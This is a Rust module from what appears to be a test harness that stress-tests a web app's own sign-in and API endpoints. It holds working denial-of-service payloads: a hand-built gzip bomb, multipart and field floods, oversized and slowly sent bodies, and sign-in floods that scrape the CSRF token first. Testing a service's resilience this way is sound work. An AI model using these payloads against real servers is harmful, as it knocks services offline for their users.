//! Requests whose content is larger than its transfer: bodies that expand, and forms that are repeated on the
//! page.
//! Invariant: many come at once, because one alone fills no memory.

use super::abuser::Abuser;
use super::kinds::{form, get, post, told};
use std::io;

/// The largest body that the program accepts.
const MOST: usize = 1024 * 1024;

/// An API call with an invalid token: the program reads its content before it checks the token.
pub fn json(it: &Abuser, body: String) {
    let head = format!("Authorization: Bearer {}\r\nContent-Type: application/json", it.guess());
    let head = format!("{head}\r\nIdempotency-Key: k\r\nContent-Length: {}", body.len());
    it.volley(&post(it, "/api/v1/actions/workspace.member.invite", &head, body.as_bytes()), true);
}

/// Half a mebibyte that unpacks to eighty mebibytes of zeros.
pub fn compressed(it: &Abuser) {
    let body = gzip_bomb(MOST / 2);
    for (path, kind) in [
        ("/api/v1/actions/workspace.member.invite", "application/json"),
        ("/sign-in", "application/x-www-form-urlencoded"),
    ] {
        let head = format!("Content-Type: {kind}\r\nContent-Encoding: gzip\r\nSec-Fetch-Site: same-origin");
        let head = format!("{head}\r\nContent-Length: {}", body.len());
        it.volley(&post(it, path, &head, &body), true);
    }
}

/// A zero, and then repeatedly 258 copies of the byte before, in the fixed codes of every unpacker (RFC 1951,
/// 3.2.6).
fn gzip_bomb(bytes: usize) -> Vec<u8> {
    let mut bits = String::from("01000110000");
    // Eight times 13 bits are 13 whole bytes.
    bits.push_str(&"1100010100000".repeat(9));
    let byte = |at: usize| (0..8).filter(|n| bits.as_bytes()[8 * at + n] == b'1').map(|n| 1 << n).sum::<u8>();
    let again: Vec<u8> = (1..14).map(byte).collect();
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, byte(0)];
    [&head[..], &again.repeat(bytes / again.len())].concat()
}

pub fn multipart(it: &Abuser) {
    let part = "--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a\"\r\n\r\n\r\n";
    let body = part.repeat(MOST / part.len() - 1);
    let kind = "Content-Type: multipart/form-data; boundary=x\r\nSec-Fetch-Site: same-origin";
    let head = format!("{kind}\r\nContent-Length: {}", body.len());
    it.flood(|| told(it, &post(it, "/sign-in", &head, body.as_bytes())));
}

pub fn too_big(it: &Abuser) {
    let body = vec![b'a'; 4 * MOST];
    it.flood(|| told(it, &form(it, &format!("Content-Length: {}", body.len()), &body)));
}

/// Half of a large body at once, and then almost nothing.
pub fn slow_and_big(it: &Abuser) {
    let begin = form(it, &format!("Content-Length: {MOST}"), &vec![b'a'; MOST / 2]);
    it.hold(
        || {
            let mut line = it.shake()?;
            line.send(&begin).map(|()| line)
        },
        |line| line.send(b"b"),
    );
    // The bytes sent so far bought more time than this test waits. The time limit of any request ends these
    // connections.
    it.let_go();
}

/// Sign-ins as the page sends them, each for another account.
pub fn sign_ins(it: &Abuser) {
    let Ok(door) = Door::open(it) else { return };
    it.ask(|| door.send(it, &wrong(it)));
}

/// The same, but the client disconnects before the answer.
pub fn sign_ins_left(it: &Abuser) {
    let Ok(door) = Door::open(it) else { return };
    it.flood(|| it.shake()?.send(&door.send(it, &wrong(it))).map(|()| None));
}

fn wrong(it: &Abuser) -> String {
    format!("email=a{}@abuse.example&password=a+wrong+one+of+some+length", it.between(0, u64::MAX - 1))
}

/// This number of fields, each of which becomes a text of its own in memory.
pub fn fields(it: &Abuser, many: usize) {
    let Ok(door) = Door::open(it) else { return };
    it.volley(&door.send(it, &format!("{}{}", wrong(it), "&a".repeat(many))), true);
}

/// As `fields`, each of a name of its own: the form is read to its end.
pub fn named_fields(it: &Abuser, many: usize) {
    let Ok(door) = Door::open(it) else { return };
    let fields: String = (0..many).map(|n| format!("&a{n}")).collect();
    it.volley(&door.send(it, &format!("{}{fields}", wrong(it))), true);
}

/// Almost as many fields as are allowed.
pub fn many_in_a_query(it: &Abuser) {
    let path = format!("/api/v1/queries/workspace.members?{}", "a&".repeat(9_990));
    it.volley(&get(it, &path, &format!("Authorization: Bearer {}\r\n", it.guess())), true);
}

/// A name that the page repeats at six times its sent length. The client does not read the page.
pub fn given_back(it: &Abuser) {
    let Ok(door) = Door::open(it) else { return };
    it.volley(&door.send(it, &format!("password=a+wrong+one&email={}", "\"".repeat(1_000_000))), false);
}

/// The sign-in page, as an open browser has it.
struct Door {
    cookie: String,
    secret: String,
}

impl Door {
    fn open(it: &Abuser) -> io::Result<Door> {
        let page = it.shake()?.ask(&get(it, "/sign-in", ""))?;
        let cookie = page.header("set-cookie").and_then(|line| line.split(';').next()).unwrap_or_default();
        let text = page.text();
        let secret = text.split("name=\"_csrf\" value=\"").nth(1).and_then(|rest| rest.split('"').next());
        Ok(Door { cookie: cookie.to_owned(), secret: secret.unwrap_or_default().to_owned() })
    }

    fn send(&self, it: &Abuser, fields: &str) -> Vec<u8> {
        let body = format!("_csrf={}&{fields}", self.secret);
        form(it, &format!("Cookie: {}\r\nContent-Length: {}", self.cookie, body.len()), body.as_bytes())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_what_unpackers_take_for_many_zeros() {
        // 2,064 zeros for each 13 bytes, as gzip itself unpacks it.
        let bomb = gzip_bomb(13);
        assert_eq!(
            bomb[10..],
            [0x62, 0x18, 0x05, 0xa3, 0x60, 0x14, 0x8c, 0x82, 0x51, 0x30, 0x0a, 0x46, 0xc1, 0x28]
        );
    }
}
